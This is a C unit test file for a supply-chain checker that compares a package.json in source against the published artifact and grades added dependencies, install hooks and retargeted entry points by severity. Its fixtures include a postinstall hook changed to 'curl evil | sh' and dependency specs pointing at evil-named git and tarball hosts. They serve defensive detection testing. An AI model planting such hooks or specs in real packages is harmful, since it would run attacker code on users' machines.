#include "sg_test.h"
#include "common/alloc.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---------------------------------------------------------------- fixture */

static sg_ctx *ctx;
static sg_report *rep;
static char *owned[64];
static size_t nowned;

static int setup(void **state)
{
    (void)state;
    if (sg_ctx_new(&ctx) < 0 || sg_report_new(&rep, ctx) < 0)
        return -1;
    return 0;
}

static int teardown(void **state)
{
    size_t i;
    (void)state;
    sg_report_free(rep);
    sg_ctx_free(ctx);
    rep = NULL;
    ctx = NULL;
    for (i = 0; i < nowned; i++)
        free(owned[i]);
    nowned = 0;
    return 0;
}

/* JSON written with single quotes for readability: 'a' -> "a". */
static const char *J(const char *s)
{
    char *d = strdup(s), *p;
    assert_non_null(d);
    assert_true(nowned < sizeof(owned) / sizeof(owned[0]));
    for (p = d; *p; p++)
        if (*p == '\'')
            *p = '"';
    owned[nowned++] = d;
    return d;
}

static int diff_raw(const char *src, const char *art, const sg_diff_opts *opts)
{
    return sg_diff_manifest(rep, ctx, src, strlen(src), art, strlen(art), opts);
}

/* Diff two single-quoted documents; must succeed. */
static void diffj(const char *src, const char *art, const sg_diff_opts *opts)
{
    int rc = diff_raw(J(src), J(art), opts);
    if (rc != 0)
        fail_msg("sg_diff_manifest failed: %d %s", rc, sg_error_message(ctx));
}

static void dump(void)
{
    size_t i, n = sg_report_finding_count(rep);
    for (i = 0; i < n; i++) {
        const sg_finding *f = sg_report_finding(rep, i);
        print_message("  finding %s %s field=%s name=%s before=%s after=%s (%s)\n", f->kind,
                      sg_severity_name(f->severity), f->field ? f->field : "-",
                      f->name ? f->name : "-", f->before ? f->before : "-",
                      f->after ? f->after : "-", f->detail ? f->detail : "");
    }
    n = sg_report_normalization_count(rep);
    for (i = 0; i < n; i++)
        print_message("  normalization %s\n", sg_report_normalization(rep, i));
}

static int str_eq(const char *a, const char *b)
{
    return (!a && !b) || (a && b && strcmp(a, b) == 0);
}

/* The finding of kind with this field and name (NULL name: no name). */
static const sg_finding *find(const char *kind, const char *field, const char *name)
{
    size_t i, n = sg_report_finding_count(rep);
    for (i = 0; i < n; i++) {
        const sg_finding *f = sg_report_finding(rep, i);
        if (strcmp(f->kind, kind) == 0 && str_eq(f->field, field) && str_eq(f->name, name))
            return f;
    }
    return NULL;
}

static const sg_finding *expect(const char *kind, sg_severity sev, const char *field,
                                const char *name)
{
    const sg_finding *f = find(kind, field, name);
    if (!f) {
        dump();
        fail_msg("no %s finding for field '%s' name '%s'", kind, field ? field : "",
                 name ? name : "");
    }
    if (f->severity != sev) {
        dump();
        fail_msg("%s %s/%s has severity %s, expected %s", kind, field ? field : "",
                 name ? name : "", sg_severity_name(f->severity), sg_severity_name(sev));
    }
    assert_string_equal(f->path, "package.json");
    return f;
}

static void expect_count(size_t n)
{
    if (sg_report_finding_count(rep) != n) {
        dump();
        fail_msg("expected %zu findings, got %zu", n, sg_report_finding_count(rep));
    }
}

static int has_norm(const char *name)
{
    size_t i, n = sg_report_normalization_count(rep);
    for (i = 0; i < n; i++)
        if (strcmp(sg_report_normalization(rep, i), name) == 0)
            return 1;
    return 0;
}

static void expect_norm(const char *name)
{
    if (!has_norm(name)) {
        dump();
        fail_msg("normalization '%s' not named", name);
    }
}

static void expect_no_norm(const char *name)
{
    if (has_norm(name)) {
        dump();
        fail_msg("normalization '%s' named but should not be", name);
    }
}

/* Nothing at or above low: the release passes on package.json. */
static void expect_max_info(void)
{
    if (sg_report_max_severity(rep) > (int)SG_SEV_INFO) {
        dump();
        fail_msg("a finding above info");
    }
}

/* ---------------------------------------------------------------- callbacks */

static const char *ws_version(void *payload, const char *name)
{
    (void)payload;
    if (strcmp(name, "@s/a") == 0 || strcmp(name, "other") == 0)
        return "1.2.3";
    return NULL;
}

static const char *catalog(void *payload, const char *cat, const char *name)
{
    (void)payload;
    if (strcmp(cat, "") == 0 && strcmp(name, "lodash") == 0)
        return "^4.17.21";
    if (strcmp(cat, "react18") == 0 && strcmp(name, "react") == 0)
        return "^18.2.0";
    return NULL;
}

static sg_diff_opts opts_with_callbacks(void)
{
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    o.workspace_version = ws_version;
    o.catalog_spec = catalog;
    o.release_version = "1.2.3";
    return o;
}

/* ---------------------------------------------------------------- identity and format */

static void test_manifest__identical_bytes_have_no_findings(void **state)
{
    (void)state;
    diffj("{'name':'x','version':'1.0.0','dependencies':{'a':'^1.0.0'}}",
          "{'name':'x','version':'1.0.0','dependencies':{'a':'^1.0.0'}}", NULL);
    expect_count(0);
    assert_int_equal(sg_report_normalization_count(rep), 0);
}

static void test_manifest__format_only_differences_are_named_format(void **state)
{
    const char *src = "{\n\t\"version\" :   \"1.0.0\",\n\t\"name\": \"caf\\u00e9\"\n}\n\n";
    const char *art = "\xef\xbb\xbf{\"name\":\"caf\xc3\xa9\",\"version\":\"1.0.0\"}";
    int rc;
    (void)state;
    rc = diff_raw(src, art, NULL);
    assert_int_equal(rc, 0);
    expect_count(0);
    expect_norm("package.json-format");
}

/* ---------------------------------------------------------------- attack class 1 */

static void test_manifest__dependency_added_is_critical(void **state)
{
    const sg_finding *f;
    (void)state;
    /* axios 1.14.1 */
    diffj("{'name':'axios','version':'1.14.1','dependencies':{'follow-redirects':'^1.15.6'},"
          "'scripts':{'prepare':'husky'}}",
          "{'name':'axios','version':'1.14.1','dependencies':{'follow-redirects':'^1.15.6',"
          "'plain-crypto-js':'^4.2.1'}}",
          NULL);
    f = expect("dependency-added", SG_SEV_CRITICAL, "dependencies", "plain-crypto-js");
    assert_string_equal(f->after, "^4.2.1");
    assert_null(f->before);
    expect("script-removed", SG_SEV_INFO, "scripts", "prepare");
    expect_count(2);
    expect_no_norm("package.json-format");
}

static void test_manifest__optional_dependency_added_is_critical(void **state)
{
    const sg_finding *f;
    (void)state;
    /* TanStack: an optionalDependencies entry pointing at a git commit */
    diffj("{'name':'r','version':'1.0.0'}",
          "{'name':'r','version':'1.0.0','optionalDependencies':"
          "{'router-init':'github:evil/router#4f2a9c1'}}",
          NULL);
    f = expect("dependency-added", SG_SEV_CRITICAL, "optionalDependencies", "router-init");
    assert_string_equal(f->after, "github:evil/router#4f2a9c1");
    expect_count(1);
}

static void test_manifest__peer_and_bundle_dependency_added_are_high(void **state)
{
    (void)state;
    diffj("{'name':'r','dependencies':{'a':'1.0.0'}}",
          "{'name':'r','dependencies':{'a':'1.0.0'},'peerDependencies':{'react':'>=18'},"
          "'bundleDependencies':['a']}",
          NULL);
    expect("dependency-added", SG_SEV_HIGH, "peerDependencies", "react");
    expect("dependency-added", SG_SEV_HIGH, "bundleDependencies", "a");
    expect_count(2);
}

static void test_manifest__bundled_dependencies_true_bundles_every_dependency(void **state)
{
    (void)state;
    diffj("{'name':'r','dependencies':{'a':'1.0.0','b':'2.0.0'},'bundledDependencies':['a']}",
          "{'name':'r','dependencies':{'a':'1.0.0','b':'2.0.0'},'bundledDependencies':true}", NULL);
    expect("dependency-added", SG_SEV_HIGH, "bundledDependencies", "b");
    expect_count(1);
}

static void test_manifest__bundle_spelling_change_with_same_names_is_not_a_finding(void **state)
{
    (void)state;
    diffj("{'name':'r','dependencies':{'a':'1'},'bundledDependencies':['a']}",
          "{'name':'r','dependencies':{'a':'1'},'bundleDependencies':['a']}", NULL);
    expect_count(0);
}

static void test_manifest__duplicate_key_uses_the_last_like_json_parse(void **state)
{
    (void)state;
    /* npm's JSON.parse keeps the second "dependencies"; so must the diff */
    diffj("{'name':'r','dependencies':{}}",
          "{'name':'r','dependencies':{},'dependencies':{'evil':'1.0.0'}}", NULL);
    expect("dependency-added", SG_SEV_CRITICAL, "dependencies", "evil");
}

/* ---------------------------------------------------------------- attack class 2 */

static void test_manifest__dependency_range_change_is_medium(void **state)
{
    const sg_finding *f;
    (void)state;
    diffj("{'dependencies':{'a':'^1.0.0'}}", "{'dependencies':{'a':'^1.2.0'}}", NULL);
    f = expect("dependency-changed", SG_SEV_MEDIUM, "dependencies", "a");
    assert_string_equal(f->before, "^1.0.0");
    assert_string_equal(f->after, "^1.2.0");
    expect_count(1);
}

static void test_manifest__dependency_changed_to_non_registry_spec_is_high(void **state)
{
    static const char *const specs[] = {
        "git+https://github.com/evil/a.git#abc123",
        "git://github.com/evil/a.git",
        "git@github.com:evil/a.git",
        "github:evil/a",
        "gitlab:evil/a",
        "https://evil.example/a-1.0.0.tgz",
        "http://evil.example/a",
        "file:../a",
        "./vendor/a",
        "link:../a",
        "npm:evil-a@1.0.0",
        "evil/a",
        "evil/a#main",
        "a-1.0.0.tgz",
        "exec:./x.js",
    };
    size_t i;
    char src[256], art[512];
    (void)state;
    for (i = 0; i < sizeof(specs) / sizeof(specs[0]); i++) {
        const sg_finding *f;
        snprintf(src, sizeof(src), "{\"dependencies\":{\"a\":\"^1.0.0\"}}");
        snprintf(art, sizeof(art), "{\"dependencies\":{\"a\":\"%s\"}}", specs[i]);
        sg_report_free(rep);
        assert_int_equal(sg_report_new(&rep, ctx), 0);
        assert_int_equal(diff_raw(src, art, NULL), 0);
        f = find("dependency-changed", "dependencies", "a");
        if (!f || f->severity != SG_SEV_HIGH) {
            dump();
            fail_msg("spec '%s' is not a high dependency-changed", specs[i]);
        }
        assert_string_equal(f->after, specs[i]);
    }
}

static void test_manifest__peer_dependency_changed_to_git_is_high(void **state)
{
    (void)state;
    diffj("{'peerDependencies':{'a':'^1'}}", "{'peerDependencies':{'a':'github:x/a'}}", NULL);
    expect("dependency-changed", SG_SEV_HIGH, "peerDependencies", "a");
}

static void test_manifest__dependency_removed_is_info(void **state)
{
    const sg_finding *f;
    (void)state;
    diffj("{'dependencies':{'a':'1','b':'2'}}", "{'dependencies':{'a':'1'}}", NULL);
    f = expect("dependency-removed", SG_SEV_INFO, "dependencies", "b");
    assert_string_equal(f->before, "2");
    expect_count(1);
}

static void test_manifest__dependency_moved_to_optional_is_low(void **state)
{
    (void)state;
    diffj("{'dependencies':{'a':'1','fsevents':'^2.3.0'}}",
          "{'dependencies':{'a':'1'},'optionalDependencies':{'fsevents':'^2.3.0'}}", NULL);
    expect("dependency-changed", SG_SEV_LOW, "optionalDependencies", "fsevents");
    expect_count(1);
}

static void test_manifest__dependencies_not_an_object_in_artifact_is_critical(void **state)
{
    (void)state;
    diffj("{'dependencies':{'a':'1'}}", "{'dependencies':['evil']}", NULL);
    expect("field-changed", SG_SEV_CRITICAL, "dependencies", NULL);
}

/* ---------------------------------------------------------------- attack class 3: scripts */

static void test_manifest__install_hook_added_is_critical(void **state)
{
    static const char *const hooks[] = {"preinstall", "install", "postinstall"};
    size_t i;
    char art[256];
    (void)state;
    for (i = 0; i < 3; i++) {
        const sg_finding *f;
        sg_report_free(rep);
        assert_int_equal(sg_report_new(&rep, ctx), 0);
        snprintf(art, sizeof(art), "{\"scripts\":{\"test\":\"jest\",\"%s\":\"node setup.js\"}}",
                 hooks[i]);
        assert_int_equal(diff_raw("{\"scripts\":{\"test\":\"jest\"}}", art, NULL), 0);
        f = expect("script-added", SG_SEV_CRITICAL, "scripts", hooks[i]);
        assert_string_equal(f->after, "node setup.js");
        expect_count(1);
    }
}

static void test_manifest__install_hook_changed_is_critical(void **state)
{
    const sg_finding *f;
    (void)state;
    diffj("{'scripts':{'postinstall':'node build.js'}}",
          "{'scripts':{'postinstall':'node build.js; curl evil | sh'}}", NULL);
    f = expect("script-changed", SG_SEV_CRITICAL, "scripts", "postinstall");
    assert_string_equal(f->before, "node build.js");
    assert_string_equal(f->after, "node build.js; curl evil | sh");
}

static void test_manifest__prepare_added_or_changed_is_high(void **state)
{
    (void)state;
    diffj("{'scripts':{'build':'tsc'}}", "{'scripts':{'build':'tsc','prepare':'node x.js'}}", NULL);
    expect("script-added", SG_SEV_HIGH, "scripts", "prepare");
    sg_report_free(rep);
    assert_int_equal(sg_report_new(&rep, ctx), 0);
    diffj("{'scripts':{'prepare':'husky'}}", "{'scripts':{'prepare':'node x.js'}}", NULL);
    expect("script-changed", SG_SEV_HIGH, "scripts", "prepare");
}

static void test_manifest__other_script_added_or_changed_is_high(void **state)
{
    (void)state;
    diffj("{'scripts':{'test':'jest'}}", "{'scripts':{'test':'jest --ci','lint':'eslint'}}", NULL);
    expect("script-changed", SG_SEV_HIGH, "scripts", "test");
    expect("script-added", SG_SEV_HIGH, "scripts", "lint");
}

static void test_manifest__pnpm_removed_scripts_are_named(void **state)
{
    (void)state;
    diffj("{'scripts':{'prepublishOnly':'npm run build','prepack':'x','prepare':'y',"
          "'postpack':'z','publish':'p','postpublish':'q','postinstall':'node i.js'}}",
          "{'scripts':{'postinstall':'node i.js'}}", NULL);
    expect("script-removed", SG_SEV_INFO, "scripts", "prepublishOnly");
    expect("script-removed", SG_SEV_INFO, "scripts", "prepack");
    expect("script-removed", SG_SEV_INFO, "scripts", "prepare");
    expect("script-removed", SG_SEV_INFO, "scripts", "postpack");
    expect("script-removed", SG_SEV_INFO, "scripts", "publish");
    expect("script-removed", SG_SEV_INFO, "scripts", "postpublish");
    expect_count(6);
    expect_norm("package.json-scripts-removed");
    expect_norm("package.json-format"); /* only accepted rewrites remained */
}

static void test_manifest__other_removed_script_is_info_without_normalization(void **state)
{
    (void)state;
    diffj("{'scripts':{'build':'tsc','test':'jest'}}", "{'scripts':{'test':'jest'}}", NULL);
    expect("script-removed", SG_SEV_INFO, "scripts", "build");
    expect_count(1);
    expect_no_norm("package.json-scripts-removed");
    expect_no_norm("package.json-format");
}

static void test_manifest__scripts_removed_entirely_is_info(void **state)
{
    (void)state;
    diffj("{'name':'a','scripts':{'test':'jest','prepack':'x'}}", "{'name':'a'}", NULL);
    expect("script-removed", SG_SEV_INFO, "scripts", "test");
    expect("script-removed", SG_SEV_INFO, "scripts", "prepack");
    expect_max_info();
}

static void test_manifest__pinst_disable_is_info(void **state)
{
    (void)state;
    diffj("{'scripts':{'postinstall':'husky install'}}",
          "{'scripts':{'_postinstall':'husky install'}}", NULL);
    expect("script-added", SG_SEV_INFO, "scripts", "_postinstall");
    expect("script-removed", SG_SEV_INFO, "scripts", "postinstall");
    expect_count(2);
    expect_norm("package.json-pinst");
    expect_max_info();
}

static void test_manifest__pinst_reversed_in_artifact_is_critical(void **state)
{
    (void)state;
    /* _postinstall in git, postinstall in the tarball: an install hook appeared */
    diffj("{'scripts':{'_postinstall':'node x.js'}}", "{'scripts':{'postinstall':'node x.js'}}",
          NULL);
    expect("script-added", SG_SEV_CRITICAL, "scripts", "postinstall");
}

static void test_manifest__malformed_source_scripts_do_not_hide_artifact_hooks(void **state)
{
    (void)state;
    diffj("{'scripts':'none'}", "{'scripts':{'postinstall':'node x.js'}}", NULL);
    expect("script-added", SG_SEV_CRITICAL, "scripts", "postinstall");
}

static void test_manifest__gypfile_turned_on_is_high(void **state)
{
    (void)state;
    diffj("{'gypfile':false}", "{}", NULL);
    expect("field-changed", SG_SEV_HIGH, "gypfile", NULL);
    sg_report_free(rep);
    assert_int_equal(sg_report_new(&rep, ctx), 0);
    diffj("{}", "{'gypfile':true}", NULL);
    expect("field-changed", SG_SEV_HIGH, "gypfile", NULL);
    sg_report_free(rep);
    assert_int_equal(sg_report_new(&rep, ctx), 0);
    diffj("{'gypfile':true}", "{'gypfile':false}", NULL);
    expect("field-changed", SG_SEV_INFO, "gypfile", NULL);
}

/* ---------------------------------------------------------------- attack class 7: bin, entry */

static void test_manifest__bin_string_and_object_forms_are_equivalent(void **state)
{
    (void)state;
    diffj("{'name':'@s/tool','bin':'./cli.js'}", "{'name':'@s/tool','bin':{'tool':'cli.js'}}",
          NULL);
    expect_count(0);
    expect_norm("package.json-format");
}

static void test_manifest__bin_added_is_high(void **state)
{
    const sg_finding *f;
    (void)state;
    diffj("{'name':'t','bin':{'t':'cli.js'}}", "{'name':'t','bin':{'t':'cli.js','ls':'x.js'}}",
          NULL);
    f = expect("bin-added", SG_SEV_HIGH, "bin", "ls");
    assert_string_equal(f->after, "x.js");
    expect_count(1);
}

static void test_manifest__bin_retargeted_is_high(void **state)
{
    const sg_finding *f;
    (void)state;
    diffj("{'name':'t','bin':'./cli.js'}", "{'name':'t','bin':'./dist/payload.js'}", NULL);
    f = expect("bin-changed", SG_SEV_HIGH, "bin", "t");
    assert_string_equal(f->before, "cli.js");
    assert_string_equal(f->after, "dist/payload.js");
}

static void test_manifest__bin_removed_is_info(void **state)
{
    (void)state;
    diffj("{'name':'t','bin':{'t':'cli.js','u':'u.js'}}", "{'name':'t','bin':{'t':'cli.js'}}",
          NULL);
    expect("field-changed", SG_SEV_INFO, "bin", "u");
    expect_count(1);
}

static void test_manifest__directories_bin_added_is_high(void **state)
{
    (void)state;
    diffj("{'name':'t'}", "{'name':'t','directories':{'bin':'./bin'}}", NULL);
    expect("bin-added", SG_SEV_HIGH, "directories.bin", NULL);
    expect_count(1);
}

static void test_manifest__main_with_or_without_dot_slash_is_equal(void **state)
{
    (void)state;
    diffj("{'main':'./index.js','types':'./index.d.ts'}",
          "{'main':'index.js','types':'index.d.ts'}", NULL);
    expect_count(0);
}

static void test_manifest__entry_points_retargeted_are_medium(void **state)
{
    (void)state;
    diffj("{'main':'index.js','module':'esm/index.js','exports':{'.':'./index.js'},"
          "'browser':'browser.js','types':'a.d.ts','typings':'a.d.ts','imports':{'#x':'./x.js'}}",
          "{'main':'evil.js','module':'esm/evil.js','exports':{'.':'./evil.js'},"
          "'browser':'evil.js','types':'b.d.ts','typings':'b.d.ts','imports':{'#x':'./y.js'},"
          "'type':'module'}",
          NULL);
    expect("entry-changed", SG_SEV_MEDIUM, "main", NULL);
    expect("entry-changed", SG_SEV_MEDIUM, "module", NULL);
    expect("entry-changed", SG_SEV_MEDIUM, "exports", NULL);
    expect("entry-changed", SG_SEV_MEDIUM, "browser", NULL);
    expect("entry-changed", SG_SEV_MEDIUM, "types", NULL);
    expect("entry-changed", SG_SEV_MEDIUM, "typings", NULL);
    expect("entry-changed", SG_SEV_MEDIUM, "imports", NULL);
    expect("entry-changed", SG_SEV_MEDIUM, "type", NULL);
    expect_count(8);
}

static void test_manifest__exports_key_order_and_commonjs_default_are_equal(void **state)
{
    (void)state;
    diffj("{'exports':{'.':{'import':'./a.mjs','require':'./a.cjs'}}}",
          "{'exports':{'.':{'require':'./a.cjs','import':'./a.mjs'}},'type':'commonjs'}", NULL);
    expect_count(0);
}

/* ---------------------------------------------------------------- other fields */

static void test_manifest__name_files_engines_os_changes_have_their_severities(void **state)
{
    (void)state;
    diffj("{'name':'a','files':['dist'],'engines':{'node':'>=18'},'os':['linux'],"
          "'cpu':['x64'],'libc':['glibc'],'description':'x'}",
          "{'name':'b','files':['dist','x'],'engines':{'node':'>=16'},'os':['darwin'],"
          "'cpu':['arm64'],'libc':['musl'],'description':'y'}",
          NULL);
    expect("field-changed", SG_SEV_HIGH, "name", NULL);
    expect("field-changed", SG_SEV_MEDIUM, "files", NULL);
    expect("field-changed", SG_SEV_LOW, "engines", NULL);
    expect("field-changed", SG_SEV_LOW, "os", NULL);
    expect("field-changed", SG_SEV_LOW, "cpu", NULL);
    expect("field-changed", SG_SEV_LOW, "libc", NULL);
    expect("field-changed", SG_SEV_INFO, "description", NULL);
    expect_count(7);
}

static void test_manifest__install_affecting_field_added_is_never_a_normalization(void **state)
{
    (void)state;
    diffj("{'name':'a'}", "{'name':'a','os':['linux'],'files':['dist']}", NULL);
    expect("field-changed", SG_SEV_LOW, "os", NULL);
    expect("field-changed", SG_SEV_MEDIUM, "files", NULL);
    expect_no_norm("package.json-fields-removed");
    expect_no_norm("package.json-format");
}

static void test_manifest__metadata_removed_at_publish_is_a_normalization(void **state)
{
    (void)state;
    diffj("{'name':'a','devDependencies':{'jest':'^29'},'workspaces':['packages/*'],"
          "'packageManager':'pnpm@9.0.0','pnpm':{'overrides':{}},'patchedDependencies':{},"
          "'readme':'x','lint-staged':{}}",
          "{'name':'a'}", NULL);
    expect_count(0);
    expect_norm("package.json-fields-removed");
    expect_norm("package.json-format");
}

static void test_manifest__metadata_added_or_changed_is_info(void **state)
{
    (void)state;
    diffj("{'name':'a','description':'x','devDependencies':{'jest':'^29'}}",
          "{'name':'a','description':'y','homepage':'https://x','devDependencies':{'jest':'^30'}}",
          NULL);
    expect("field-changed", SG_SEV_INFO, "description", NULL);
    expect("field-changed", SG_SEV_INFO, "homepage", NULL);
    expect("field-changed", SG_SEV_INFO, "devDependencies", NULL);
    expect_count(3);
    expect_no_norm("package.json-format");
}

/* ---------------------------------------------------------------- version */

static void test_manifest__version_placeholders_are_normalized(void **state)
{
    static const char *const placeholders[] = {
        "0.0.0",
        "0.0.0-development",
        "0.0.0-semantically-released",
        "0.0.0-semantic-release",
        "0.0.0-dev",
        "0.0.0-placeholder",
        "0.0.0-PLACEHOLDER.1",
        "DO-NOT-CHANGE",
        "do not change: set by semantic-release",
    };
    size_t i;
    char src[256];
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    (void)state;
    o.release_version = "2.3.4";
    for (i = 0; i < sizeof(placeholders) / sizeof(placeholders[0]); i++) {
        sg_report_free(rep);
        assert_int_equal(sg_report_new(&rep, ctx), 0);
        snprintf(src, sizeof(src), "{\"name\":\"a\",\"version\":\"%s\"}", placeholders[i]);
        assert_int_equal(diff_raw(src, "{\"name\":\"a\",\"version\":\"2.3.4\"}", &o), 0);
        expect_count(0);
        expect_norm("package.json-version-placeholder");
    }
}

static void test_manifest__missing_source_version_is_a_placeholder(void **state)
{
    (void)state;
    diffj("{'name':'a'}", "{'name':'a','version':'2.3.4'}", NULL);
    expect_count(0);
    expect_norm("package.json-version-placeholder");
}

static void test_manifest__other_real_version_is_low(void **state)
{
    const sg_finding *f;
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    (void)state;
    o.release_version = "1.3.0";
    diffj("{'version':'1.2.0'}", "{'version':'1.3.0'}", &o);
    f = expect("field-changed", SG_SEV_LOW, "version", NULL);
    assert_string_equal(f->before, "1.2.0");
    assert_string_equal(f->after, "1.3.0");
    expect_no_norm("package.json-version-placeholder");
}

static void test_manifest__placeholder_with_other_release_version_is_low(void **state)
{
    sg_diff_opts o = SG_DIFF_OPTS_INIT;
    (void)state;
    o.release_version = "9.9.9";
    diffj("{'version':'0.0.0-development'}", "{'version':'1.3.0'}", &o);
    expect("field-changed", SG_SEV_LOW, "version", NULL);
    expect_no_norm("package.json-version-placeholder");
}

/* ---------------------------------------------------------------- workspace / catalog / jsr */

static void test_manifest__workspace_specs_resolve_like_pnpm(void **state)
{
    sg_diff_opts o = opts_with_callbacks();
    (void)state;
    diffj("{'dependencies':{'@s/a':'workspace:*','b':'workspace:^2.0.0','c':'workspace:other@*'},"
          "'peerDependencies':{'@s/a':'workspace:^'},"
          "'optionalDependencies':{'@s/a':'workspace:~'},"
          "'devDependencies':{'@s/a':'workspace:./packages/a'}}",
          "{'dependencies':{'@s/a':'1.2.3','b':'^2.0.0','c':'npm:other@1.2.3'},"
          "'peerDependencies':{'@s/a':'^1.2.3'},"
          "'optionalDependencies':{'@s/a':'~1.2.3'},"
          "'devDependencies':{'@s/a':'1.2.3'}}",
          &o);
    expect_count(0);
    expect_norm("package.json-workspace-protocol");
    expect_norm("package.json-format");
}

static void test_manifest__workspace_spec_kept_literally_is_equal(void **state)
{
    (void)state;
    diffj("{'dependencies':{'a':'workspace:*'}}", "{'dependencies':{'a':'workspace:*'}}", NULL);
    expect_count(0);
    assert_int_equal(sg_report_normalization_count(rep), 0);
}

static void test_manifest__unresolvable_workspace_vs_range_is_low_and_unverified(void **state)
{
    const sg_finding *f;
    (void)state;
    diffj("{'dependencies':{'@s/b':'workspace:^'}}", "{'dependencies':{'@s/b':'^3.1.0'}}", NULL);
    f = expect("dependency-changed", SG_SEV_LOW, "dependencies", "@s/b");
    assert_string_equal(f->before, "workspace:^");
    assert_string_equal(f->after, "^3.1.0");
    expect_count(1);
    expect_norm("package.json-workspace-protocol-unverified");
}

static void test_manifest__workspace_vs_git_spec_is_high(void **state)
{
    sg_diff_opts o = opts_with_callbacks();
    (void)state;
    diffj("{'dependencies':{'@s/a':'workspace:*','@s/b':'workspace:^'}}",
          "{'dependencies':{'@s/a':'git+https://evil/a.git','@s/b':'https://evil/b.tgz'}}", &o);
    expect("dependency-changed", SG_SEV_HIGH, "dependencies", "@s/a");
    expect("dependency-changed", SG_SEV_HIGH, "dependencies", "@s/b");
    expect_no_norm("package.json-workspace-protocol");
    expect_no_norm("package.json-workspace-protocol-unverified");
}

static void test_manifest__workspace_bumped_by_release_tools_is_low(void **state)
{
    const sg_finding *f;
    sg_diff_opts o = opts_with_callbacks();
    (void)state;
    diffj("{'dependencies':{'@s/a':'workspace:^'}}", "{'dependencies':{'@s/a':'^1.3.0'}}", &o);
    f = expect("dependency-changed", SG_SEV_LOW, "dependencies", "@s/a");
    assert_non_null(strstr(f->detail, "^1.2.3"));
}

static void test_manifest__catalog_specs_resolve(void **state)
{
    sg_diff_opts o = opts_with_callbacks();
    (void)state;
    diffj("{'dependencies':{'lodash':'catalog:','react':'catalog:react18'},"
          "'peerDependencies':{'lodash':'catalog:default'}}",
          "{'dependencies':{'lodash':'^4.17.21','react':'^18.2.0'},"
          "'peerDependencies':{'lodash':'^4.17.21'}}",
          &o);
    expect_count(0);
    expect_norm("package.json-catalog-protocol");
}

static void test_manifest__catalog_mismatch_is_medium(void **state)
{
    sg_diff_opts o = opts_with_callbacks();
    (void)state;
    diffj("{'dependencies':{'lodash':'catalog:'}}", "{'dependencies':{'lodash':'^4.0.0'}}", &o);
    expect("dependency-changed", SG_SEV_MEDIUM, "dependencies", "lodash");
    expect_no_norm("package.json-catalog-protocol");
}

static void test_manifest__unresolvable_catalog_vs_range_is_low_and_unverified(void **state)
{
    (void)state;
    diffj("{'dependencies':{'zod':'catalog:'}}", "{'dependencies':{'zod':'^3.22.0'}}", NULL);
    expect("dependency-changed", SG_SEV_LOW, "dependencies", "zod");
    expect_norm("package.json-catalog-protocol-unverified");
}

static void test_manifest__jsr_spec_resolves_to_npm_alias(void **state)
{
    (void)state;
    diffj("{'dependencies':{'@luca/cases':'jsr:^1.0.1','x':'jsr:@std/path@^1.0.0'}}",
          "{'dependencies':{'@luca/cases':'npm:@jsr/luca__cases@^1.0.1',"
          "'x':'npm:@jsr/std__path@^1.0.0'}}",
          NULL);
    expect_count(0);
    expect_norm("package.json-jsr-protocol");
}

/* ---------------------------------------------------------------- publishConfig */

static void test_manifest__pnpm_publish_config_overlay_is_accepted(void **state)
{
    (void)state;
    diffj("{'name':'b','main':'src/index.ts','types':'src/index.ts','bin':{'b':'src/cli.ts'},"
          "'publishConfig':{'access':'public','main':'dist/index.js','types':'dist/index.d.ts',"
          "'bin':{'b':'dist/cli.js'},'exports':{'.':'./dist/index.js'}}}",
          "{'name':'b','main':'dist/index.js','types':'dist/index.d.ts',"
          "'bin':{'b':'dist/cli.js'},'publishConfig':{'access':'public'},"
          "'exports':{'.':'./dist/index.js'}}",
          NULL);
    expect_count(0);
    expect_norm("package.json-publish-config");
    expect_norm("package.json-format");
}

static void test_manifest__berry_publish_config_copy_is_accepted(void **state)
{
    (void)state;
    diffj("{'name':'b','main':'src/index.ts','publishConfig':{'main':'dist/index.js'}}",
          "{'name':'b','main':'dist/index.js','publishConfig':{'main':'dist/index.js'}}", NULL);
    expect_count(0);
    expect_norm("package.json-publish-config");
}

static void test_manifest__entry_matching_neither_source_nor_publish_config_is_medium(void **state)
{
    (void)state;
    diffj("{'main':'src/index.ts','publishConfig':{'main':'dist/index.js'}}",
          "{'main':'dist/evil.js','publishConfig':{'main':'dist/index.js'}}", NULL);
    expect("entry-changed", SG_SEV_MEDIUM, "main", NULL);
    expect_no_norm("package.json-publish-config");
}

static void test_manifest__publish_config_changed_otherwise_is_info(void **state)
{
    (void)state;
    diffj("{'publishConfig':{'access':'public'}}",
          "{'publishConfig':{'access':'public','registry':'https://x'}}", NULL);
    expect("field-changed", SG_SEV_INFO, "publishConfig", NULL);
    expect_count(1);
}

/* ---------------------------------------------------------------- a whole pnpm publish */

static void test_manifest__pnpm_publish_rewrites_pass(void **state)
{
    sg_diff_opts o = opts_with_callbacks();
    const char *src =
        "{\n  \"name\": \"@s/b\",\n  \"version\": \"0.0.0-development\",\n"
        "  \"packageManager\": \"pnpm@10.0.0\",\n"
        "  \"scripts\": {\"prepublishOnly\": \"pnpm build\", \"postinstall\": \"node i.js\"},\n"
        "  \"main\": \"src/index.ts\",\n"
        "  \"dependencies\": {\"@s/a\": \"workspace:^\", \"lodash\": \"catalog:\"},\n"
        "  \"devDependencies\": {\"@s/a\": \"workspace:*\", \"vitest\": \"^1.0.0\"},\n"
        "  \"publishConfig\": {\"main\": \"dist/index.js\"}\n}\n";
    const char *art = "{\n  \"name\": \"@s/b\",\n  \"version\": \"1.2.3\",\n"
                      "  \"main\": \"dist/index.js\",\n"
                      "  \"dependencies\": {\"lodash\": \"^4.17.21\", \"@s/a\": \"^1.2.3\"},\n"
                      "  \"devDependencies\": {\"@s/a\": \"1.2.3\", \"vitest\": \"^1.0.0\"},\n"
                      "  \"scripts\": {\"postinstall\": \"node i.js\"}\n}";
    (void)state;
    assert_int_equal(diff_raw(src, art, &o), 0);
    expect("script-removed", SG_SEV_INFO, "scripts", "prepublishOnly");
    expect_count(1);
    expect_norm("package.json-version-placeholder");
    expect_norm("package.json-workspace-protocol");
    expect_norm("package.json-catalog-protocol");
    expect_norm("package.json-publish-config");
    expect_norm("package.json-scripts-removed");
    expect_norm("package.json-fields-removed");
    expect_norm("package.json-format");
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_PASS);
}

static void test_manifest__rewrites_do_not_hide_an_added_dependency(void **state)
{
    sg_diff_opts o = opts_with_callbacks();
    (void)state;
